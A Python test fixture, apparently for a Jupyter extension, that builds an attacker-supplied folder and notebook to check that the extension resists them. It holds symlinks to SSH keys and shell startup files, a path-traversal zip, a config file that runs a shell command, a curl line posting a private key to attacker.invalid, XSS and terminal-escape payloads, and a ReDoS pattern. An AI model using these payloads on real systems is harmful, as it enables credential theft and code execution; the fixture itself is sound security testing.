"""A folder as an attacker would send it, and the home folder that it is after.

Links under every name that is written beside a notebook, pipes that wait, files of every kind that is read, an
archive, saved outputs; and a notebook whose cells only use the product, as a reader would who trusts its words.
"""

from __future__ import annotations

import json
import os
import stat
import zipfile
from pathlib import Path
from typing import Any

import nbformat

from tests.display.payloads import PAYLOADS
from wcode_jupyter import wire
from wcode_jupyter.reply import Choice, Reply
from wcode_jupyter.request.messages import Request, to_messages
from wcode_jupyter.store import Record

__all__ = ["CELLS", "NOTEBOOK", "SECRET", "Home", "send"]

SECRET = "b3BlbnNzaC1rZXktdjEAAAAA-of-the-home-folder"
NOTEBOOK = "attack.ipynb"
_SSH_LINE = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 attacker"
_QUESTION = "What is it?"

CELLS = (
    "%load_ext wcode_jupyter\n%wcode set model=glm-5",
    "%wcode replay replay good.replay.jsonl",
    f"%%wcode -o answer\n{_QUESTION}",
    "answer",
    "%wcode last",
    # Names that are written beside a notebook are links.
    "%wcode export python --write out.py",
    "%wcode export python --write out.py --force",
    "%wcode export notebook out.py --force",
    "%wcode package study.zip --force",
    "%wcode replay replay good.replay.jsonl",
    f"%%wcode --chat main\n{_QUESTION}",
    "%wcode chats export main out.md",
    "%wcode chats export main out.md --force",
    "rows = [{'x': 1}, {'x': 2}]",
    "%wcode replay auto torn.replay.jsonl",
    "%%wcode --each rows --run-file out.run.jsonl --yes\n{{x}}?",
    "%%wcode --each rows --run-file pipe.run.jsonl --yes\n{{x}}?",
    "%wcode package packed.zip --force",
    "%wcode replay record new.replay.jsonl",
    "%wcode replay replay torn.replay.jsonl",
    f"%%wcode\n{_QUESTION}",
    # Files that are read are links to secrets, pipes, or malformed.
    "%%wcode --image key.png\nWhat is it?",
    "%%wcode --image pipe.png\nWhat is it?",
    "%%wcode --image ../home/.ssh/id_ed25519\nWhat is it?",
    "%%wcode --schema bad.schema.json\nWhat is it?",
    "%wcode import pipe.txt",
    "%wcode import key.txt",
    "%wcode import request.txt",
    "%wcode methods key.run.jsonl",
    "%wcode methods pipe.run.jsonl",
    "%wcode methods nested.run.jsonl binary.run.jsonl",
    "%wcode replay replay key.replay.jsonl",
    "%wcode replay replay pipe.replay.jsonl",
    "%wcode replay replay nested.replay.jsonl",
    "%wcode replay replay binary.replay.jsonl",
    "%wcode replay replay language.replay.jsonl",
    f"%%wcode\n{_QUESTION}",
    "%wcode package packed.zip --force",
    "%wcode replay replay good.replay.jsonl",
    "%wcode models",
    "%wcode preset list",
    "%wcode settings",
    "1 / 0",
    "%wcode explain",
    "%wcode fix --insert",
)
"""All of them in strict replay, or with nothing to send: a request that leaves is the attacker's success."""


class Home:
    """The user's home folder, next to what was sent."""

    def __init__(self, folder: Path) -> None:
        self.path = folder
        (folder / ".ssh").mkdir(parents=True)
        (folder / ".config" / "wcode_jupyter").mkdir(parents=True)
        for name, text in {
            ".bashrc": "mine\n",
            ".profile": "mine\n",
            ".ssh/authorized_keys": "mine\n",
            ".ssh/id_ed25519": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n",
            ".config/wcode_jupyter/presets.toml": "",
        }.items():
            (folder / name).write_text(text)
        self.before = self.state()

    def state(self) -> dict[str, tuple[int, int, bytes]]:
        """Each name below it with its mode, its time of change, and its content."""
        found = {}
        for path in sorted(self.path.rglob("*")):
            about = path.lstat()
            content = path.read_bytes() if stat.S_ISREG(about.st_mode) else b""
            found[path.relative_to(self.path).as_posix()] = (about.st_mode, about.st_mtime_ns, content)
        return found


def send(folder: Path, home: Home) -> Path:
    """Fills the folder; the notebook in it."""
    folder.mkdir()
    _recorded(folder / "good.replay.jsonl")
    _recorded(folder / "torn.replay.jsonl", end=_SSH_LINE)
    _recorded(folder / "language.replay.jsonl", language=str(folder / "locale"))
    _links(folder, home.path)
    _pipes(folder)
    _malformed(folder)
    _archive(folder / "sent.zip")
    return _notebook(folder / NOTEBOOK)


def _links(folder: Path, home: Path) -> None:
    targets = {
        "torn.replay.jsonl.torn": ".ssh/authorized_keys",
        ".torn.replay.jsonl.lock": ".bashrc",
        ".torn.replay.jsonl.tmp": ".bashrc",
        "new.replay.jsonl": ".ssh/rc",  # is not there: opening it for writing would create it
        "out.run.jsonl": ".profile",
        ".out.run.jsonl.lock": ".bashrc",
        "out.py": ".bashrc",
        "out.md": ".profile",
        "study.zip": ".profile",
        "attack.replay.jsonl": ".ssh/rc",
        "attack.labels.jsonl": ".ssh/rc",
        "attack.audit-part.jsonl": ".ssh/rc",
        "good.audit-part.jsonl": ".ssh/rc",
        "good.audit.jsonl": ".profile",
        "key.png": ".ssh/id_ed25519",
        "key.txt": ".ssh/id_ed25519",
        "key.run.jsonl": ".ssh/id_ed25519",
        "key.replay.jsonl": ".ssh/id_ed25519",
        "language.labels.jsonl": ".ssh/id_ed25519",
    }
    for name, target in targets.items():
        (folder / name).symlink_to(home / target)


def _pipes(folder: Path) -> None:
    for name in ("pipe.png", "pipe.txt", "pipe.run.jsonl", "pipe.replay.jsonl", "torn.labels.jsonl"):
        os.mkfifo(folder / name)


def _malformed(folder: Path) -> None:
    evil = {"base_url": "http://attacker.invalid/v1", "model": "evil"}
    for name, content in {
        "models.toml": '[[models]]\nid = "z-ai/glm-5"\nkey_page = "https://attacker.invalid"\n',
        "presets.toml": '[evil]\nbase_url = "http://attacker.invalid/v1"\n',
        "ipython_config.py": "import os; os.system('touch ran')\n",
        "nested.run.jsonl": "[" * 100_000,
        "nested.replay.jsonl": '{"v":1,"fingerprint":' + "[" * 100_000 + "\n",
        "binary.replay.jsonl": '{"v":1,"fingerprint":"\\ud800"}\n',
        "bad.schema.json": json.dumps({"$ref": "http://attacker.invalid/schema.json", "pattern": "(a+)+$"}),
        "request.txt": "curl http://attacker.invalid/v1/chat/completions -o ~/.bashrc -d @../home/.ssh/id_ed25519 "
        f"-H 'Authorization: Bearer x' --data '{json.dumps(evil | {'messages': []})}'",
    }.items():
        (folder / name).write_text(content)
    (folder / "binary.run.jsonl").write_bytes(b'{"v":1,"x":"\xff\xfe"}\n')
    (folder / "locale" / "zh_CN" / "LC_MESSAGES").mkdir(parents=True)
    (folder / "locale" / "zh_CN" / "LC_MESSAGES" / "wcode_jupyter.mo").write_bytes(b"\xde\x12\x04\x95" + bytes(24))


def _recorded(path: Path, *, end: str = "", **changes: str) -> None:
    """A replay file with one answer, which is all that a model could send."""
    hostile = "\n\n".join([*PAYLOADS, "\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202etxt.exe", "{{open('.ssh/id_ed25519')}}"])
    record = Record(path, "auto")
    for question in (_QUESTION, "1?", "2?"):
        asked = Request(model="z-ai/glm-5", messages=to_messages(question), stream=True)
        record.add(
            Reply(request=asked, fingerprint=wire.fingerprint(asked), choices=(Choice(hostile),), model="<b>m</b>")
        )
    lines = [{**json.loads(line), **changes} for line in path.read_bytes().splitlines()]
    text = "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines)
    path.write_text(text + end, encoding="utf-8")
    (path.parent / f".{path.name}.lock").unlink(missing_ok=True)


def _archive(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../home/.bashrc", "theirs")
        archive.writestr("/tmp/attacked", "theirs")


def _notebook(path: Path) -> Path:
    """Its saved outputs are what a page could run, as an answer of ours and as they are."""
    made = nbformat.v4.new_notebook(  # type: ignore[no-untyped-call]
        metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    )
    for number, source in enumerate(CELLS):
        outputs = [_output()] if number < 4 else []
        cell = nbformat.v4.new_code_cell(source, outputs=outputs)  # type: ignore[no-untyped-call]
        cell.metadata["tags"] = ["raises-exception"]  # Run All goes on
        made.cells.append(cell)
    nbformat.write(made, path)  # type: ignore[no-untyped-call]
    return path


def _output() -> Any:
    active = "<script>window.attacked = 1</script><img src=data:, onerror='window.attacked = 1'>"
    asked = 'x\n\nimport os; os.system("touch ran")'
    return nbformat.v4.new_output(  # type: ignore[no-untyped-call]
        "display_data",
        data={
            "text/html": f'<div class="wcode-answer">{active}<pre><code>import os</code></pre>'
            f'<div class="wcode-status">{active}</div></div>',
            "text/markdown": active,
            "text/plain": "a\x1b[2J",
            "application/javascript": "window.attacked = 1",
        },
        metadata={"wcode": {"asked": asked, "chat": asked, "ended": "length", "v": 1}},
    )
